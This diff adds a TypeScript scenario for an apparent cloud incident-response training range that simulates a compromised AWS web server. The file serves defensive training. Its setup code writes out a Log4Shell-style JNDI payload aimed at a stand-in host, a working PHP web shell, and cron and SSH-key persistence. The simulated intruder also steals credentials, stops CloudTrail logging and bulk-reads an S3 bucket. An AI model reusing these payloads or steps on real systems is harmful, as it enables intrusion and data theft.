@@ -1,0 +1,325 @@
+import { beacon } from "../adversary/beacon.ts";
+import { once } from "../adversary/once.ts";
+import { stolenSession } from "../adversary/stolen-session.ts";
+import type { Aws, Credentials } from "../kit/aws.ts";
+import { defineScenario } from "../kit/define.ts";
+import type { Behaviour, Connection, ProcessHandle, Stage } from "../kit/stage.ts";
+import { criteria, MARKER } from "./criteria.ts";
+import type { Facts } from "./facts.ts";
+
+/** Documentation ranges (RFC 5737) and reserved names (RFC 2606): nobody's addresses. */
+const C2 = { ip: "203.0.113.66", port: 443, name: "cdn-metrics.example" };
+const SECOND_C2 = { ip: "203.0.113.71", port: 8443, name: "static-assets.example" };
+const LAIR = { ip: "198.51.100.213", userAgent: "aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0-kali" };
+const WEB_SHELL = "/static/.thumb.php";
+
+/** What the intruder holds while the run lasts, by stage: processes and connections are no facts for grading. */
+interface Held {
+  process: ProcessHandle;
+  connection: Connection | undefined;
+  credentials: Credentials;
+}
+const held = new WeakMap<Stage, Held>();
+
+export default defineScenario<Facts>({
+  id: "compromised-web-instance",
+  title: "A web server talks to strangers",
+  family: "Compromised compute",
+  difficulty: 3,
+  parMinutes: 15,
+  summary: "One of two web servers behind the load balancer is under somebody else's control.",
+  maps: {
+    attack: ["T1190", "T1505.003", "T1071.001", "T1552.005", "T1078.004", "T1041"],
+    findings: [
+      "Backdoor:EC2/C&CActivity.B",
+      "Backdoor:EC2/C&CActivity.B!DNS",
+      "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
+    ],
+    nist: ["Detection & Analysis", "Containment, Eradication & Recovery"],
+    exam: ["SCS-C02 1.3", "SCS-C03 2.2"],
+  },
+  needs: [
+    "iam-enforcement",
+    "event-history",
+    "network-flows",
+    "instances",
+    "guest",
+    "load-balancer",
+    "auto-scaling",
+    "findings",
+  ],
+
+  brief: (facts, stage) =>
+    `${facts.ticket} · severity 2 · you are on call
+
+GuardDuty has raised a high-severity finding about one of the web servers: it talks to an address that is
+known for command and control. The shop runs on two instances of one Auto Scaling group behind a load
+balancer, and customers are buying right now.
+
+Legal wants to know what was taken. OBJECTIVE: PRESERVE VOLATILE EVIDENCE. Keep the machine running until
+its memory is in the evidence bucket, contain the intruder everywhere, keep the shop up, then recover.
+
+  ticket                 ${facts.ticket} (tag with it what belongs to the case)
+  evidence bucket        ${facts.evidenceBucket}
+  log bucket             ${facts.logBucket} (trail, flow logs, load balancer)
+  forensic subnet        ${facts.forensicSubnetId}
+  forensic workstation   ${stage.workstationCidr}
+  clean image            ${facts.cleanImageId} (patched, tested, ready to launch)
+
+You have the responder role. Nobody else will change anything in the account while you work.`,
+
+  async inject(stage) {
+    const { outputs, platform } = stage;
+    const facts = await surveyTargets(stage);
+    await platform.ec2.associateAddress({
+      AllocationId: outputs["ElasticIpAllocationId"],
+      InstanceId: facts.instanceId,
+    });
+    await fillDataBucket(platform, facts.dataBucket);
+    stage.internet({ ...C2, threat: "c2" });
+    stage.internet({ ...SECOND_C2, threat: "c2" });
+    stage.internet({ ip: LAIR.ip });
+
+    await stage.visit({
+      path: "/search?q=${jndi:ldap://cdn-metrics.example/a}",
+      clientIp: LAIR.ip,
+      userAgent: "curl/8.5.0",
+    });
+    const foothold = stage.foothold(facts.instanceId);
+    await foothold.plant({
+      files: {
+        [`/srv/web${WEB_SHELL}`]:
+          "<?php if (md5($_GET['k']) === '5f4dcc3b5aa765d61d8327deb882cf99') system($_GET['c']); ?>\n",
+        "/usr/local/bin/kworkerd": `\u007fELF kworkerd implant\nconfig: ${C2.name}:${C2.port} interval=15 jitter=0.3\n`,
+        "/tmp/.X11-unix/.cache/run.sh": `#!/bin/sh\nnohup /usr/local/bin/kworkerd -q >/dev/null 2>&1 &\n`,
+        "/etc/ssh/sshd_config": "Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\nUsePAM yes\n",
+        "/home/svc-backup/.ssh/authorized_keys":
+          "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJtK3e2fQm0c9bV7z svc@lair\n",
+      },
+      users: [{ name: "svc-backup", uid: 1007, shell: "/bin/bash" }],
+      logins: [{ user: "svc-backup", from: LAIR.ip, minutesAgo: 14, minutes: 9 }],
+      cron: [{ user: "root", line: "*/5 * * * * /tmp/.X11-unix/.cache/run.sh" }],
+      memory: [`${C2.name}:${C2.port}`, C2.ip, "kworkerd-session-key=7c1d9f52e0b84a6e"],
+    });
+    await foothold.resolve(C2.name);
+    const process = await foothold.start({
+      command: "/usr/local/bin/kworkerd -q",
+      user: "root",
+      cpuPercent: 3.2,
+    });
+    const connection = await process.connect({ ...C2, label: "c2" });
+    if (!connection) throw new Error("the command-and-control connection could not be opened");
+    await connection.send(4_000, 1_200);
+    const credentials = await foothold.roleCredentials();
+    if (!credentials) throw new Error("the instance has no role credentials to steal");
+    await stage.intruder(credentials, LAIR).sts.getCallerIdentity({});
+    held.set(stage, { process, connection, credentials });
+    return facts;
+  },
+
+  adversary: (stage, facts) => {
+    const { process, connection, credentials } = held.get(stage)!;
+    const foothold = stage.foothold(facts.instanceId);
+    const whileAlive = async (): Promise<Credentials | undefined> =>
+      (await process.alive()) && (await reaches(connection)) ? await foothold.roleCredentials() : undefined;
+    let key = 0;
+    const behaviours: Behaviour[] = [
+      beacon({
+        everySeconds: 15,
+        implant: { process, connection },
+        controller: C2,
+        resolve: () => foothold.resolve(C2.name),
+      }),
+      stolenSession({
+        everySeconds: 20,
+        from: LAIR,
+        first: credentials,
+        steal: whileAlive,
+        purpose: `Read of s3://${facts.dataBucket} with the instance role's session`,
+        async use(aws) {
+          const listed = await aws.s3.listObjectsV2({ Bucket: facts.dataBucket });
+          const objects = listed.Contents ?? [];
+          const wanted = objects[key++ % Math.max(1, objects.length)];
+          if (!wanted?.Key) return { what: `ListObjectsV2 of ${facts.dataBucket}` };
+          const got = await aws.s3.getObject({ Bucket: facts.dataBucket, Key: wanted.Key });
+          return { what: `GetObject ${wanted.Key}`, bytes: got.ContentLength ?? 0 };
+        },
+      }),
+      {
+        name: "web-shell",
+        everySeconds: 45,
+        afterSeconds: 10,
+        async act({ visit, attempted }) {
+          const came = await visit({
+            path: `${WEB_SHELL}?k=s&c=id`,
+            clientIp: LAIR.ip,
+            userAgent: "curl/8.5.0",
+          });
+          const gotThrough = came.status === 200 && came.instanceId === facts.instanceId;
+          attempted({
+            attempt: "web-shell",
+            gotThrough,
+            what: `Request for ${WEB_SHELL} through the load balancer`,
+            ...(!gotThrough && {
+              refusal: came.instanceId === facts.instanceId ? `HTTP ${came.status}` : "another-instance",
+            }),
+          });
+        },
+      },
+      once(
+        "second-listener",
+        240,
+        async () => {
+          if (!(await process.alive())) return undefined;
+          const second = await foothold.start({
+            command: "/tmp/.X11-unix/.cache/sshd -D -p 8443",
+            user: "root",
+          });
+          const back = await second.connect({ ...SECOND_C2, label: "c2-second" });
+          const what = `A second way out, to ${SECOND_C2.name}:${SECOND_C2.port}`;
+          return back ? { gotThrough: true, what } : { gotThrough: false, what, refusal: "timeout" };
+        },
+        "A second way out",
+      ),
+      once(
+        "stop-trail",
+        360,
+        async () => {
+          await stage
+            .intruder((await whileAlive()) ?? credentials, LAIR)
+            .cloudtrail.stopLogging({ Name: facts.trailName });
+          return { gotThrough: true, what: `StopLogging of ${facts.trailName}` };
+        },
+        `StopLogging of ${facts.trailName}`,
+      ),
+      once(
+        "data-grab",
+        480,
+        async () => {
+          const aws = stage.intruder((await whileAlive()) ?? credentials, LAIR);
+          const listed = await aws.s3.listObjectsV2({ Bucket: facts.dataBucket });
+          let bytes = 0;
+          for (const { Key } of listed.Contents ?? []) {
+            if (Key) bytes += (await aws.s3.getObject({ Bucket: facts.dataBucket, Key })).ContentLength ?? 0;
+          }
+          return { gotThrough: true, what: `Everything in ${facts.dataBucket} was read`, bytes };
+        },
+        `Read of everything in ${facts.dataBucket}`,
+      ),
+    ];
+    return behaviours;
+  },
+
+  markers: (facts) => [facts.c2.ip, ...Object.values(MARKER)],
+  criteria,
+
+  hints: [
+    {
+      cost: 3,
+      text: "Look before you act, and ask what acts by itself: an Auto Scaling group that checks health through the load balancer replaces what you quarantine. Memory needs a way out while the machine still has one.",
+    },
+    {
+      cost: 5,
+      text: "A security group is asked when a connection opens. Ask the instance (ss -tnp by Run Command) whether the old one is still there after your swap, and read what connection tracking says of rules that allow everything both ways.",
+    },
+    {
+      cost: 8,
+      text: "The role's credentials left the building: detaching the profile does not call them back. Stop new ones, then deny everything to sessions issued before now (aws:TokenIssueTime), in UTC, to the second.",
+    },
+  ],
+
+  debrief: {
+    story:
+      "The intruder came through the shop's search (a vulnerable logging library), left a web shell, an implant that beacons every 15 seconds, a cron job that brings it back, an account with a key, and took the instance role's credentials from the metadata service, which still answered version 1. From then on there were three ways in: the implant's connection, the web shell behind the load balancer, and a session that works from anywhere.",
+    rulings: [
+      {
+        topic: "Stop first, or isolate first?",
+        text: "The forum answer stops the machine first; AWS's guide and most sources isolate it. Both are valid for different objectives. This brief asks for volatile evidence, so memory comes before any stop.",
+        source:
+          "seed 004; AWS Security Incident Response User Guide, destination containment; ground truth section 4",
+      },
+      {
+        topic: "Does the two-step security group trick cut tracked connections?",
+        text: "AWS's own pages disagree. Here an all-open group turns a tracked connection on a direct Internet path into an untracked one, and the empty group then ends it; through a NAT gateway it does not. What counts is the proof that the connection ended.",
+        source: "EC2 user guide, connection tracking; seed 003; ground truth section 2.1",
+      },
+      {
+        topic: "Snapshot before or after isolation?",
+        text: "The practice test says after, two AWS automations do it before. Both are accepted; only completeness and completion count.",
+        source: "seed 000; aws-samples GuardDuty automated response; ground truth section 4",
+      },
+      {
+        topic: "Emptying the security group",
+        text: "The study text's sample command revokes the rules of the group in place. The group is shared: it takes the healthy server down and leaves the established connection alive.",
+        source: "seed 000; seed 003; ground truth section 3(1)",
+      },
+    ],
+    practiseNext: ["stolen-role-credentials", "crypto-mining", "stop-or-isolate"],
+  },
+});
+
+const reaches = async (connection: Connection | undefined): Promise<boolean> =>
+  (await connection?.send(200, 200)) ?? false;
+
+/** Finds the instance to break, and everything around it that grading must know by name. */
+async function surveyTargets(stage: Stage): Promise<Facts> {
+  const { outputs, platform } = stage;
+  const output = (name: string): string => {
+    const value = outputs[name];
+    if (value === undefined) throw new Error(`the sandbox has no output ${name}`);
+    return value;
+  };
+  const groupName = output("AutoScalingGroupName");
+  const { AutoScalingGroups = [] } = await platform.autoscaling.describeAutoScalingGroups({
+    AutoScalingGroupNames: [groupName],
+  });
+  const members = (AutoScalingGroups[0]?.Instances ?? []).map((x) => x.InstanceId!).sort();
+  const instanceId = stage.chance.pick(members);
+  const { Reservations = [] } = await platform.ec2.describeInstances({ InstanceIds: [instanceId] });
+  const instance = Reservations[0]!.Instances![0]!;
+  const { Vpcs = [] } = await platform.ec2.describeVpcs({ VpcIds: [output("VpcId")] });
+  return {
+    ticket: stage.ticket,
+    instanceId,
+    volumeIds: (instance.BlockDeviceMappings ?? []).map((x) => x.Ebs!.VolumeId!),
+    healthyInstanceIds: members.filter((id) => id !== instanceId),
+    groupName,
+    targetGroupArn: output("TargetGroupArn"),
+    sharedGroupIds: (instance.SecurityGroups ?? []).map((x) => x.GroupId!),
+    loadBalancerGroupId: output("LoadBalancerSecurityGroupId"),
+    roleName: output("InstanceRoleName"),
+    profileArn: instance.IamInstanceProfile!.Arn!,
+    launchTemplateId: output("LaunchTemplateId"),
+    evidenceBucket: output("EvidenceBucketName"),
+    logBucket: output("LogBucketName"),
+    dataBucket: output("DataBucketName"),
+    trailName: output("TrailName"),
+    forensicSubnetId: output("ForensicSubnetId"),
+    workstationCidr: stage.workstationCidr,
+    vpcCidr: Vpcs[0]!.CidrBlock!,
+    cleanImageId: stage.cleanImageId,
+    c2: C2,
+    lairIp: LAIR.ip,
+  };
+}
+
+/** Something worth stealing: made-up orders, without a person's name in them. */
+async function fillDataBucket(platform: Aws, bucket: string): Promise<void> {
+  for (const [key, rows] of [
+    ["exports/orders-2026-q2.csv", 400],
+    ["exports/orders-2026-q3.csv", 600],
+    ["exports/invoices.csv", 300],
+    ["config/payment-gateway.json", 1],
+  ] as const) {
+    const body = Array.from(
+      { length: rows },
+      (_, i) => `order-${String(i).padStart(5, "0")},customer-${i % 97},${(i * 37) % 500}.00`,
+    );
+    await platform.s3.putObject({
+      Bucket: bucket,
+      Key: key,
+      Body: Buffer.from(body.join("\n")),
+      ContentType: "text/csv",
+    });
+  }
+}
